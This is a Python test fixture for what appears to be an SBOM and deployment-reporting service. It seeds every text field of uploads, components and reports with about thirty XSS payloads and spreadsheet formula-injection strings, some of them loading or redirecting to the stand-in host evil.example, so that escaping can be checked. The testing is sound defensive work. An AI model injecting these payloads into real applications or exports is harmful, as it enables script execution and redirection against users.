"""Texts that would run, if any page or export took them for more than text; and an estate full of them."""

from __future__ import annotations

from typing import Any

from tests.factories import cyclonedx, deployment, digest, report, store, submit

TEAM = "team-a"
SHOP, NEXT = digest("hostile shop"), digest("hostile next")
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg/onload=alert(5)//",
    '"><img src=x onerror=alert(6)>',
    "'><img src=x onerror=alert(7)>",
    '" onmouseover=alert(8) x="',
    "' onfocus=alert(9) autofocus x='",
    "javascript:alert(10)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(11) )//",
    "data:text/html,<script>alert(12)</script>",
    "<iframe src=javascript:alert(13)>",
    "<body onload=alert(14)>",
    "<a href=javascript:alert(15)>x</a>",
    "<math><a xlink:href=javascript:alert(16)>x",
    "<details open ontoggle=alert(17)>",
    "<input autofocus onfocus=alert(18)>",
    "<style>@import'//evil.example/19'</style>",
    "<link rel=stylesheet href=//evil.example/20>",
    "<base href=//evil.example/21>",
    "<meta http-equiv=refresh content=0;url=//evil.example/22>",
    "<form action=//evil.example/23><button>x",
    "{{ 7*7 }}{% debug %}",
    "${alert(25)}",
    "<!--><img src=x onerror=alert(26)>",
    "]]><script>alert(27)</script>",
    "<div hx-get=//evil.example/28 hx-trigger=load>",
    "&lt;script&gt;alert(29)&lt;/script&gt;",
    "\u202e<\u017fcript>alert(30)</\u017fcript>",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("//evil.example")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
)


def hostile_estate() -> None:
    """Put every payload into every text that a document, a report or an upload's parameters have."""
    components = [
        {"bom-ref": f"c{number}", "name": text, "group": text, "version": text, "description": text, "author": text}
        | {"licenses": [{"license": {"name": text}}], "purl": f"pkg:npm/x{number}@1?vcs_url={_quoted(text)}"}
        for number, text in enumerate(PAYLOADS)
    ]
    nameless = [{"name": text, "version": text} for text in PAYLOADS]
    for number, text in enumerate(PAYLOADS[:6]):
        sbom = cyclonedx(*components, *nameless, subject=(SHOP, NEXT)[number % 2], name=text, tool=text)
        said: dict[str, Any] = {
            "filename": text,
            "version": text,
            "repository": text,
            "environment": text,
            "commit": text[:64],
        }
        submit(TEAM, sbom, name=text, **said)
    for number, text in enumerate((*PAYLOADS, *FORMULAS)):
        place: dict[str, Any] = {
            "cluster": "hostile",
            "namespace": text,
            "container": text,
            "service": text,
            "environment": text,
        }
        record = deployment(digest=SHOP, image=f"registry.example/x{number}:1", **place)
        report(TEAM, {**record, "workload": {"kind": "Job", "name": text}, "tags": [text], "runtime_risks": [text]})
    store(TEAM, cyclonedx("pkg:npm/late@1", subject=digest("late")), filename=PAYLOADS[0])


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())
